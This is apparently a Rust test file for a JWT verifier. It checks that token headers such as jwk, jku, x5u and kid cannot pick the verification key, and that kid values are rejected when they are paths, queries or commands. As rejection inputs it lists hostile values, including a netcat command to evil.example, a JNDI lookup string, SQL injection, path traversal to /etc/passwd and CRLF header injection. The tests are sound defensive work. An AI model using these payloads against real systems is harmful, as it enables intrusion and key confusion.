//! Rules 25 to 27: a token names a key, and has no other say in which.

use std::sync::{Arc, Mutex};

use bytes::Bytes;
use http::{Request, Response};
use palisade::{
    auth::{Algorithm, Fetch, Fetched, Tokens},
    testing::TestIssuer,
};
use serde_json::{Value, json};

use crate::{
    client::Ask,
    door::{Door, ISSUER, NOW, Outcome, claims},
    material::{decoded, encoded, jwk},
};

/// The issuer's server, as far as it is asked: for its keys.
#[derive(Clone, Default)]
struct Server {
    jwks: String,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Fetch for Server {
    fn fetch(&self, request: Request<Bytes>) -> Fetched<'_> {
        self.asked.lock().unwrap().push(request.uri().to_string());
        Box::pin(async { Ok(Response::new(Bytes::from(self.jwks.clone()))) })
    }
}

/// Where the issuer has said that its keys are.
const JWKS: &str = "https://id.shop.example/keys";

#[tokio::test]
async fn rule_25_keys_in_the_token_and_addresses_of_keys_have_no_influence() {
    let server = Server::default();
    let asked = Arc::clone(&server.asked);
    let door = Door::believing(|id| {
        let server = Server { jwks: id.jwks(), ..server };
        Tokens::issuer(ISSUER).audience(TestIssuer::AUDIENCE).jwks_uri(JWKS).fetch(server)
    })
    .await;
    let stranger = TestIssuer::new(ISSUER);
    let trap = door.trap();
    let own = jwk(&stranger, Algorithm::EdDsa);
    let certificate = encoded(decoded(own["x"].as_str().unwrap()));
    let members: Vec<(&str, Value)> = vec![
        // CVE-2018-0114: the key that the token brings along.
        ("jwk", own.clone()),
        ("jwk", json!([own])),
        ("jwk", json!({"kty": "oct", "k": "AAAA"})),
        ("jku", json!(format!("{trap}/jwks.json"))),
        ("jku", json!(format!("{ISSUER}/../@{}/jwks", trap.trim_start_matches("http://")))),
        ("jku", json!("file:///etc/passwd")),
        ("x5u", json!(format!("{trap}/certificate.pem"))),
        ("x5c", json!([certificate])),
        ("x5t", json!(certificate)),
        ("x5t#S256", json!(certificate)),
        ("key", own.clone()),
        ("keys", json!([own])),
        ("iss", json!(trap)),
        ("url", json!(format!("{trap}/acme"))),
        ("enckey", json!(trap)),
    ];
    let mut rows = Vec::new();
    for (name, value) in &members {
        let forged = |kid: &str| stranger.token().scope("orders:read").header(name, value.clone()).header("kid", kid);
        rows.push((format!("{name} {value}"), forged("test-EdDSA").sign(NOW), "bad_signature"));
        rows.push((format!("{name} {value}, unknown kid"), forged("mine").sign(NOW), "key_unknown"));
    }
    door.refuses(rows).await;
    // A token that is good remains so: nobody looks there.
    let good = members.iter().map(|(name, value)| (*name, door.token().header(name, value.clone()).sign(NOW)));
    door.accepts(good.collect::<Vec<_>>()).await;
    // At the start, and once because of all the names that were made up.
    assert_eq!(*asked.lock().unwrap(), [JWKS, JWKS]);
}

#[tokio::test]
async fn rule_25_nothing_that_a_token_says_is_an_address_to_us() {
    let door = Door::new().await;
    let trap = door.trap();
    let by_trap = TestIssuer::new(trap);
    let kids = [format!("{trap}/key"), format!("//{}", &trap[7..]), format!("{trap}/jwks?kid=")];
    let mut rows: Vec<(String, String, &str)> =
        kids.into_iter().map(|kid| (kid.clone(), door.token().header("kid", kid).sign(NOW), "key_unknown")).collect();
    rows.push(("an issuer to be discovered".into(), by_trap.token().sign(NOW), "bad_signature"));
    let issued = door.token().claim("iss", trap).sign(NOW);
    rows.push(("an issuer, by our key".into(), issued, "wrong_issuer"));
    door.refuses(rows).await;
    let claimed = ["aud_url", "introspection_endpoint", "jwks_uri", "_claim_sources", "picture"]
        .map(|claim| (claim, door.token().claim(claim, json!({"endpoint": trap, "JWT": trap})).sign(NOW)));
    door.accepts(claimed).await;
}

#[tokio::test]
async fn rule_26_a_kid_is_a_name_and_no_path_query_or_command() {
    let door = Door::new().await;
    let rows = [
        "../../../../../../dev/null",
        "/dev/null",
        "C:\\Windows\\win.ini",
        "test-EdDSA/../test-EdDSA",
        "' UNION SELECT 'key' --",
        "test-EdDSA' OR '1'='1",
        "$(id)",
        "`id`|nc evil.example 80",
        "http://evil.example/key",
        "ldap://evil.example/a",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "*",
        "test-*",
        "%74est-EdDSA",
        "test-EdDSA\0",
        "\0",
        "\r\nSet-Cookie: a=b",
        "test-eddsa",
        " test-EdDSA",
        "test-EdDSA ",
        "te\u{0301}st-EdDSA",
        "test\u{2010}EdDSA",
        "0",
        "undefined",
        "__proto__",
        "constructor",
        "",
    ];
    let long = "k".repeat(256);
    let rows = rows.into_iter().chain([long.as_str()]);
    let token = |kid: &str| door.token().header("kid", kid).sign(NOW);
    door.refuses(rows.map(|kid| (format!("{kid:?}"), token(kid), "key_unknown")).collect::<Vec<_>>()).await;
    let wrong = [
        json!("k".repeat(257)),
        json!("k".repeat(4_000)),
        json!(["test-EdDSA"]),
        json!({"a": 1}),
        json!(7),
        json!(null),
    ];
    let token = |kid: &Value| door.token().header("kid", kid.clone()).sign(NOW);
    door.refuses(wrong.iter().map(|kid| (kid.to_string(), token(kid), "bad_header")).collect::<Vec<_>>()).await;
    let endless = Ask::get("/orders").bearer(door.token().header("kid", "k".repeat(10_000)).sign(NOW));
    door.answers("a kid that fills the head", endless, Outcome::InvalidToken("too_long")).await;
}

#[tokio::test]
async fn rule_26_a_key_of_the_same_name_at_another_issuer_opens_nothing() {
    let door = Door::new().await;
    let other = TestIssuer::new("https://id.evil.example");
    door.refuses([
        ("its own token", other.token().scope("orders:read").sign(NOW), "bad_signature"),
        ("its token in our name", other.token().claim("iss", ISSUER).sign(NOW), "bad_signature"),
        ("our key, its name", door.token().claim("iss", "https://id.evil.example").sign(NOW), "wrong_issuer"),
    ])
    .await;
}

#[tokio::test]
async fn rule_27_without_a_kid_there_is_no_choice() {
    let door = Door::new().await;
    let nameless = |algorithm| {
        door.id.sign_raw(algorithm, json!({"alg": algorithm.name(), "typ": "at+jwt"}).to_string(), claims())
    };
    door.accepts([("one key fits", nameless(Algorithm::EdDsa))]).await;
    let door = Door::with(|id| {
        let mut set: Value = serde_json::from_str(&id.jwks()).unwrap();
        let keys = set["keys"].as_array_mut().unwrap();
        let mut second = jwk(&TestIssuer::new(ISSUER), Algorithm::EdDsa);
        second["kid"] = "second".into();
        keys.push(second);
        palisade::auth::Keys::jwks(&set.to_string()).unwrap()
    })
    .await;
    let nameless = door.id.sign_raw(Algorithm::EdDsa, r#"{"alg":"EdDSA","typ":"at+jwt"}"#, claims());
    door.refuses([("two keys fit", nameless, "key_ambiguous")]).await;
}
